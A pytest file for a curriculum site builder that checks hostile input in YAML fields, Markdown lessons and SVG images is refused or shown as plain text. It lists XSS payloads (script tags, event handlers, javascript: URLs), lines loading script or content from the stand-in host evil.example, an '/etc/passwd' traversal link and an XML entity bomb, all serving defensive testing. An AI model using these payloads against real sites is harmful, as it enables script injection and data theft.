"""Hostile content: whatever an author's field, lesson or picture holds, no page runs, loads or styles anything by it."""

from __future__ import annotations

import copy
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import yaml

from practicum.checking import check
from practicum.publishing import build, publish, read_site
from practicum.reading.files import InMemory
from practicum.reading.project import read_project
from tests.publishing.shipped import DAY, ROOT, views_of
from tests.publishing.small_curriculum import FILES

PAYLOADS = (
    "<script>hit()</script>",
    "</title></script><script src=https://evil.example/x.js></script>",
    '<img src=x onerror="hit()">',
    "<svg onload=hit()><script>hit()</script></svg>",
    "<iframe srcdoc='<script>hit()</script>'></iframe><object data=x></object><embed src=x>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed">x</p>',
    "<a href='javascript:hit()'>x</a>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=https://evil.example><button formaction=javascript:hit()>x</button></form>",
    "[x](javascript:hit()) [y](data:text/html,hit) <javascript:hit()>",
    "![x](https://evil.example/x.png)",
    'x{ onclick=hit() style="color:red" }',
    '{: onmouseover="hit()" style="color:red" }',
    '" onfocus="hit()" autofocus="',
    "' onfocus='hit()",
    "<div markdown=1 onclick=hit()>**x**</div>",
    "<!-- --><script>hit()</script><!--",
    "&lt;script&gt;hit()&lt;/script&gt; &#60;script&#62;hit()&#60;/script&#62;",
    "{{ config }} {% include 'x' %} {# x #}",
)
# What a lesson may try beyond fields: markup that Markdown itself would pass on.
LESSONS = (
    *PAYLOADS,
    "# Look {: onclick=hit() }",
    "# Look { #x style=color:red onclick=hit() }",
    "[x][1]\n\n[1]: javascript:hit()",
    "![x][2]\n\n[2]: https://evil.example/x.png",
    "[x](module:M2){ onclick=hit() }",
    "[x](../../../../etc/passwd)",
    "```{ onclick=hit() }\ncode\n```",
    "| a | b |\n|---|---|\n| <script>hit()</script> | x{: onclick=hit() } |",
    "> quote\n{: onclick=hit() style=color:red }",
    "- item {: onclick=hit() }\n{: onclick=hit() }",
    "<JaVaScRiPt:hit()>",
    "[x](JAVASCRIPT&colon;hit()) [y](java\tscript:hit())",
    "Term\n:   definition {: onclick=hit() }",
)
_ELEMENTS = {"iframe", "object", "embed", "applet", "base", "style", "foreignobject", "animate", "set", "use", "audio", "video", "frame"}


class Seen(HTMLParser):
    """What could run, load, send or hide in one page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        held = {name: value or "" for name, value in attrs}
        told = f"<{tag} {held}>"[:200]
        if tag in _ELEMENTS or any(name.startswith("on") or name in {"style", "srcdoc", "formaction", "action"} for name in held):
            self.wrong.append(told)
        if tag == "script" and held.get("type") != "application/ld+json" and (not held.get("src") or urlsplit(held["src"]).netloc):
            self.wrong.append(told)
        if tag == "meta" and held.get("http-equiv", "").lower() == "refresh":
            self.wrong.append(told)
        for name in ("href", "src", "xlink:href", "data", "poster"):
            scheme = urlsplit(held.get(name, "").strip()).scheme
            # Nothing at all, in the place of an icon.
            if tag == "link" and held.get(name) == "data:,":
                continue
            if scheme not in {"", "https", "http", "mailto", "tel"} or (name != "href" and urlsplit(held.get(name, "")).netloc):
                self.wrong.append(told)
        if tag == "link" and urlsplit(held.get("href", "")).netloc:
            self.wrong.append(told)


def _texts(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from _texts(inner, (*path, key))
    elif isinstance(value, list):
        for number, inner in enumerate(value):
            yield from _texts(inner, (*path, number))
    elif isinstance(value, str):
        yield path


def _with(tree: Any, path: tuple[Any, ...], text: str) -> Any:
    changed = copy.deepcopy(tree)
    place = changed
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = text
    return changed


def _written(tree: Any) -> str:
    return yaml.safe_dump(tree, allow_unicode=True, sort_keys=False)


def _sound(files: dict[str, str]) -> bool:
    return not any(fault.severity == "error" for fault in read_project(InMemory(files)).diagnostics)


def _built(files: dict[str, str], folder: Path) -> list[Path]:
    catalogue = read_project(InMemory(files)).catalogue
    (folder / "site").mkdir(parents=True)
    staged = publish(views_of(catalogue), read_site(ROOT / "site"))
    build(staged, stage=folder / "stage", site=ROOT / "site", output=folder / "site")
    return sorted((folder / "site").rglob("*.html"))


def _wrong(pages: list[Path]) -> list[str]:
    return [f"{path.parent.name}/{path.name}: {told}" for path in pages for told in Seen(path.read_text("utf-8")).wrong]


def test_hostile_text_in_every_field_stays_text(tmp_path: Path) -> None:
    files = dict(FILES)
    hostile = " ".join(PAYLOADS)
    taken = 0
    for name in [name for name in files if name.endswith(".yaml")]:
        tree = yaml.load(files[name], Loader=yaml.BaseLoader)
        for path in list(_texts(tree)):
            place = tree
            for step in path:
                place = place[step]
            trial = _with(tree, path, f"{place} {hostile}")
            # An id, a date or a word of a list refuses it where it is read, at its line; everything else is text.
            if _sound({**files, name: _written(trial)}):
                tree, taken = trial, taken + 1
        files[name] = _written(tree)
    assert taken > 60
    pages = _built(files, tmp_path)
    assert not sorted({told.split(":")[0] for told in _wrong(pages)}), _wrong(pages)[:5]
    shown = [path.name for path in pages if "hit()" in path.read_text("utf-8")]
    assert len(shown) > 10, "it is shown as the text it is"


def _refused(files: dict[str, str], name: str) -> bool:
    """Whether a lesson has a fault at the line of the payload or below."""
    reading = read_project(InMemory(files))
    found = (*reading.diagnostics, *check(reading.catalogue, views_of(reading.catalogue), today=DAY))
    return any(fault.severity == "error" and fault.span.path == name and fault.span.line >= 5 for fault in found)


def test_a_hostile_lesson_is_refused_at_its_line_or_shown_as_text(tmp_path: Path) -> None:
    lesson = "curriculum/modules/M1-seeing/01-look.md"
    texts = {payload: f"# Look\n\nFirst.\n\n{payload}\n\nLast.\n" for payload in LESSONS}
    passed = [text for text in texts.values() if not _refused({**FILES, lesson: text}, lesson)]
    assert 10 < len(passed) < len(texts) - 10, "both happen"
    module = "curriculum/modules/M1-seeing/module.yaml"
    tree = yaml.load(FILES[module], Loader=yaml.BaseLoader)
    names = [f"{number:02}-try.md" for number in range(2, len(passed) + 2)]
    tree["sessions"] += [{"id": f"t{name[:2]}", "title": "Try", "minutes": "5", "kind": "taught", "lesson": name} for name in names]
    tried = {f"curriculum/modules/M1-seeing/{name}": text for name, text in zip(names, passed, strict=True)}
    pages = _built({**FILES, module: _written(tree), **tried}, tmp_path)
    assert {name.replace(".md", ".html") for name in names} <= {path.name for path in pages}
    assert not _wrong(pages)


@pytest.mark.parametrize(
    "inside",
    [
        "<script>hit()</script>",
        '<rect width="9" height="9" onclick="hit()"/>',
        '<a href="javascript:hit()"><rect width="9" height="9"/></a>',
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>hit()</script></body></foreignObject>",
        '<image href="https://evil.example/x.png"/>',
        '<use xlink:href="https://evil.example/x.svg#a" xmlns:xlink="http://www.w3.org/1999/xlink"/>',
        '<set attributeName="onmouseover" to="hit()"/>',
        "<style>rect { fill: url(//evil.example/x) }</style>",
        "<style>@import '//evil.example/x.css';</style>",
        '<rect fill="url(https://evil.example/x)"/>',
    ],
)
@pytest.mark.parametrize("path", ["curriculum/modules/M1-seeing/a.svg", "curriculum/diagrams/a.svg"])
def test_a_hostile_picture_is_refused_where_it_is_read(path: str, inside: str) -> None:
    words = "<title>A</title><desc>A.</desc>"
    picture = f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 360 80">{words}\n{inside}</svg>'
    said = [fault for fault in read_project(InMemory({**FILES, path: picture})).diagnostics if fault.severity == "error"]
    assert {fault.span.path for fault in said} == {path}


@pytest.mark.parametrize("path", ["curriculum/modules/M1-seeing/a.svg", "curriculum/diagrams/a.svg"])
def test_a_bomb_in_a_picture_does_not_go_off(path: str) -> None:
    bomb = '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>'
    said = read_project(InMemory({**FILES, path: bomb})).diagnostics
    assert [fault.span.path for fault in said] == [path]
